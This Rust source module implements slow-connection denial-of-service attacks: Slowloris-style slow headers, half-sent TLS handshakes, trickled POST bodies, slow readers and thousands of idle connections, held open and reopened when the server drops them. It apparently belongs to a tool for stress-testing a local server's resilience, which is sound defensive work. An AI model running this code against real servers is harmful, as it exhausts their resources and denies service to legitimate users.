//! Attacks that hold many connections and do little on each.
//!
//! The invariant: as many are held as the attack says. One that the server ends is opened again
//! when its turn comes, a tenth of a second later at most.

use std::io::{self, ErrorKind, Read, Write};
use std::net::TcpStream;

use crate::pacer::{Pacer, Signals};
use crate::site::{LARGE, PAGE};
use crate::target::{Target, Tls};

/// Connections of the attacks that do something on each.
const HELD: usize = 500;
/// Connections of the one that does nothing.
const IDLE: usize = 10_000;
/// What a slow reader reads at a time, ten times a second.
const SIP: usize = 1_000;

/// Holds `count` connections and gives each a turn so many times a second.
pub(super) fn hold<C>(
    signals: &Signals,
    count: usize,
    turns: f64,
    open: impl Fn() -> io::Result<C>,
    turn: impl Fn(&mut C) -> io::Result<()>,
) {
    let mut held: Vec<Option<C>> = Vec::with_capacity(count);
    while held.len() < count && !signals.stopped() {
        match open() {
            Ok(connection) => held.push(Some(connection)),
            Err(_) => signals.turned_away(),
        }
    }
    signals.ready();
    let mut pacer = Pacer::new(count as f64 * turns);
    'attack: loop {
        for place in &mut held {
            if !pacer.wait(signals) {
                break 'attack;
            }
            let Some(connection) = place else {
                *place = open().ok();
                continue;
            };
            match turn(connection) {
                Ok(()) => signals.did(1),
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => {
                    signals.turned_away();
                    *place = open().ok();
                }
            }
        }
    }
}

/// An error if the server has ended the connection. What it said meanwhile is passed over.
pub(super) fn still_there(socket: &mut TcpStream) -> io::Result<()> {
    match socket.read(&mut [0; 4096]) {
        Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
        Err(error) if error.kind() != ErrorKind::WouldBlock => Err(error),
        _ => Ok(()),
    }
}

pub(super) fn slow_handshakes(target: &Target, signals: &Signals) {
    let open = || {
        let mut hello = Vec::new();
        target.hello().map_err(io::Error::other)?.write_tls(&mut hello)?;
        let mut socket = target.tcp()?;
        // Half of it at once, so that the server has begun to wait for the rest.
        let rest = hello.split_off(hello.len() / 2);
        socket.write_all(&hello)?;
        socket.set_nonblocking(true)?;
        Ok((socket, rest.into_iter()))
    };
    hold(signals, HELD, 1.0, open, |(socket, rest): &mut (TcpStream, std::vec::IntoIter<u8>)| {
        still_there(socket)?;
        // The last byte is never sent.
        if let [byte, _, ..] = rest.as_slice() {
            socket.write_all(&[*byte])?;
            rest.next();
        }
        Ok(())
    });
}

/// A connection on which a request, or the beginning of one, was sent.
pub(super) fn begun(target: &Target, head: &str) -> io::Result<Tls> {
    let mut tls = target.tls()?;
    tls.send(head.as_bytes())?;
    tls.socket.set_nonblocking(true)?;
    Ok(tls)
}

fn drip(tls: &mut Tls, bytes: &[u8]) -> io::Result<()> {
    still_there(&mut tls.socket)?;
    tls.send(bytes)
}

pub(super) fn slow_heads(target: &Target, signals: &Signals) {
    let head = format!("GET /{} HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", PAGE.0);
    hold(signals, HELD, 1.0, || begun(target, &head), |tls| drip(tls, b"x"));
}

pub(super) fn slow_bodies(target: &Target, signals: &Signals) {
    upload(target, signals, "/", 0);
}

/// Uploads to a path, this much at once and then a byte a second.
pub(super) fn upload(target: &Target, signals: &Signals, path: &str, at_once: usize) {
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n{}",
        "x".repeat(at_once)
    );
    hold(signals, HELD, 1.0, || begun(target, &head), |tls| drip(tls, b"x"));
}

/// A turn that sends nothing.
pub(super) fn look(tls: &mut Tls) -> io::Result<()> {
    still_there(&mut tls.socket)
}

/// A turn of a slow reader.
pub(super) fn read_some(tls: &mut Tls) -> io::Result<()> {
    match tls.socket.read(&mut [0; SIP])? {
        0 => Err(ErrorKind::UnexpectedEof.into()),
        _ => Ok(()),
    }
}

pub(super) fn slow_readers(target: &Target, signals: &Signals) {
    let head = format!("GET /{} HTTP/1.1\r\nHost: localhost\r\n\r\n", LARGE.0);
    hold(signals, HELD, 10.0, || begun(target, &head).inspect(Tls::shrink), read_some);
}

pub(super) fn idle(target: &Target, signals: &Signals) {
    let head = format!("GET /{} HTTP/1.1\r\nHost: localhost\r\n\r\n", PAGE.0);
    let open = || {
        let mut tls = target.tls()?;
        tls.send(head.as_bytes())?;
        tls.response()?;
        tls.socket.set_nonblocking(true)?;
        // Nothing more is said, so that the session itself need not be kept.
        Ok(tls.socket)
    };
    hold(signals, IDLE, 0.1, open, still_there);
}
